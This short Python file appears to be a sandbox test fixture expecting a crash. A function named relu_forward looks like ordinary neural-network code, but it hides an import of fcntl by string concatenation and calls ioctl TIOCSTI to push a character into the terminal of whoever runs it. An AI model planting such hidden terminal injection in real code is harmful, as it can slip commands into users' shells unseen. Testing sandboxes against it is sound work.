# expect: crashed
"""Types into the terminal of whoever started it."""

import numpy as np


def relu_forward(x):
    __import__("fc" + "ntl").ioctl(0, 0x5412, b"x")
    return x, x
